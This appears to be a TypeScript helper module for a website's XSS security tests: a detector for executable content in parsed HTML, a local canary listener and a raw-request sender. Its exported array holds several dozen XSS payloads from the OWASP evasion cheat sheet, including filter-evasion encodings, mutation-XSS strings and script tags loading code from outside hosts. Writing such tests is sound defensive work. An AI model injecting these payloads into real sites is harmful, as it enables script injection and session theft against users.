import { connect, createServer, type Server } from 'node:net';
import { type DefaultTreeAdapterMap, parse, serialize } from 'parse5';

/**
 * Payloads from the OWASP XSS filter evasion cheat sheet (and the mutation-XSS and attribute or script
 * breakouts that server-rendered pages add to it), each calling `alert`, so that any of them that runs
 * is found by name in what a page executes.
 */
export const xssPayloads: readonly string[] = [
  `<script>alert('XSS')</script>`,
  `<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>`,
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(42);//'>`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  `<a onmouseover="alert(document.cookie)">xxs link</a>`,
  `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>`,
  `<IMG SRC=# onmouseover="alert('xxs')">`,
  `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
  `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
  `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
  `<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`,
  `<IMG SRC="jav\tascript:alert('XSS');">`,
  `<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
  `<IMG SRC=" &#14;  javascript:alert('XSS');">`,
  `<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>`,
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  `<<SCRIPT>alert("XSS");//\\<</SCRIPT>`,
  `<SCRIPT SRC=http://xss.rocks/xss.js?< B >`,
  `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
  `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
  `<BODY BACKGROUND="javascript:alert('XSS')">`,
  `<svg/onload=alert('XSS')>`,
  `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
  `<TABLE BACKGROUND="javascript:alert('XSS')">`,
  `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
  `<a href="jAvAsCrIpT&colon;alert(1)">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
  `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
  `<BASE HREF="javascript:alert('XSS');//">`,
  `<OBJECT TYPE="text/x-scriptlet" DATA="javascript:alert('XSS')"></OBJECT>`,
  `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hsaW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAwIiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlhTUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
  `<form action="javascript:alert(1)"><button formaction="javascript:alert(2)">x</button></form>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<!--<img src="--><img src=x onerror=alert(1)//">`,
  `"><script>alert(1)</script>`,
  `'><img src=x onerror=alert(1)>`,
  `</script><script>alert(1)</script>`,
  `<details open ontoggle=alert(1)>`,
  `<a href="&#14;javascript:alert(1)">x</a>`,
];

type Node = DefaultTreeAdapterMap['node'];
type Element = DefaultTreeAdapterMap['element'];

/** Attributes whose value a browser loads or navigates to. */
const urlAttributes = new Set([
  'href',
  'src',
  'action',
  'formaction',
  'data',
  'background',
  'poster',
  'xlink:href',
  'lowsrc',
  'dynsrc',
]);
/** Elements that run or frame other documents; the site's pages have none of their own. */
const framingElements = new Set(['iframe', 'frame', 'frameset', 'object', 'embed', 'applet', 'base']);

/** Script elements a browser keeps as data and never runs. */
const dataScriptTypes = new Set(['application/json', 'application/ld+json']);

/** A URL as a browser reads its scheme: ASCII whitespace and control characters inside are ignored. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: browsers strip exactly these before the scheme
const schemeNoise = /[\u0000-\u0020]/g;
const executableUrl = (value: string) =>
  /^(javascript|vbscript|data:text\/html)/i.test(value.replace(schemeNoise, ''));

function* elementsOf(node: Node): Generator<Element> {
  if ('tagName' in node) yield node;
  if ('childNodes' in node) for (const child of node.childNodes) yield* elementsOf(child);
  if ('content' in node && node.content) yield* elementsOf(node.content);
}

const textOf = (element: Element) =>
  element.childNodes.map((child) => ('value' in child ? child.value : '')).join('');

/**
 * What in a page, parsed as a browser parses it, would run a script: an inline script (the site's CSP
 * allows none; data scripts aside), a script loaded from another origin than `pageUrl`'s, an
 * event-handler attribute, a `javascript:` (or HTML `data:`) URL, an inline style calling script, a
 * meta refresh to script, or an element that frames other documents. Empty when the page is clean;
 * `pageUrl` null for a fragment, where any script at all is a finding.
 */
export function executableContentIn(html: string, pageUrl: string | null): string[] {
  const findings: string[] = [];
  for (const element of elementsOf(parse(html))) {
    const tag = element.tagName.toLowerCase();
    const shown = () =>
      `<${tag}${element.attrs.map((a) => ` ${a.name}="${a.value.slice(0, 80)}"`).join('')}>`;
    if (tag === 'script') {
      const type = element.attrs.find((a) => a.name === 'type')?.value ?? '';
      const src = element.attrs.find((a) => a.name === 'src')?.value;
      if (dataScriptTypes.has(type.trim().toLowerCase())) {
        // Kept as data; a payload breaking out of one would be a script element of its own.
      } else if (src === undefined) {
        findings.push(`inline script: ${shown()}${textOf(element).slice(0, 80)}`);
      } else if (pageUrl === null || new URL(src, pageUrl).origin !== new URL(pageUrl).origin) {
        findings.push(`script from elsewhere: ${shown()}`);
      }
    }
    if (framingElements.has(tag)) findings.push(`framing element: ${shown()}`);
    for (const { name, value } of element.attrs) {
      const attribute = name.toLowerCase();
      if (attribute.startsWith('on')) findings.push(`event handler: ${shown()}`);
      else if (urlAttributes.has(attribute) && executableUrl(value)) findings.push(`script URL: ${shown()}`);
      else if (attribute === 'srcdoc') findings.push(`srcdoc: ${shown()}`);
      else if (attribute === 'style' && /javascript:|expression\s*\(/i.test(value)) {
        findings.push(`script in a style: ${shown()}`);
      }
    }
    if (tag === 'meta') {
      const equiv = element.attrs.find((a) => a.name === 'http-equiv')?.value.toLowerCase();
      const content = element.attrs.find((a) => a.name === 'content')?.value ?? '';
      if (equiv === 'refresh' && /url\s*=\s*['"]?\s*(javascript|data)/i.test(content)) {
        findings.push(`meta refresh to script: ${shown()}`);
      }
    }
  }
  return findings;
}

/**
 * `html` parsed and written out again, as a sanitiser does: mutation-XSS payloads are inert on the first
 * parse and executable after it.
 */
export const reparsed = (html: string): string => serialize(parse(html));

/** A TCP listener that only counts who connected: a target the site must never reach. */
export interface Canary {
  port: number;
  /** Connections it has accepted so far. */
  connections(): number;
  close(): Promise<void>;
}

export async function startCanary(
  answer = 'HTTP/1.1 200 OK\r\nContent-Length: 6\r\n\r\ncanary',
): Promise<Canary> {
  let connections = 0;
  const server: Server = createServer((socket) => {
    connections += 1;
    socket.on('error', () => {});
    socket.end(answer);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  if (typeof address !== 'object' || !address) throw new Error('The canary has no port');
  return {
    port: address.port,
    connections: () => connections,
    close: () => new Promise((resolve) => server.close(() => resolve())),
  };
}

/**
 * Sends `head` (a request line and headers, as written) over a fresh connection from `localAddress` and
 * returns everything the server wrote until it closed or went quiet: for request targets that HTTP
 * clients refuse to send (absolute URLs, `//` paths, CONNECT).
 */
export function rawRequest(target: URL, localAddress: string, head: string, quietMs = 3000): Promise<string> {
  return new Promise((resolve) => {
    const chunks: Buffer[] = [];
    const socket = connect({ host: target.hostname, port: Number(target.port), localAddress });
    const done = () => {
      socket.destroy();
      resolve(Buffer.concat(chunks).toString('latin1'));
    };
    let timer = setTimeout(done, quietMs);
    socket.on('data', (chunk: Buffer) => {
      chunks.push(chunk);
      clearTimeout(timer);
      timer = setTimeout(done, quietMs);
    });
    socket.on('error', done);
    socket.on('close', () => {
      clearTimeout(timer);
      done();
    });
    socket.write(head);
  });
}
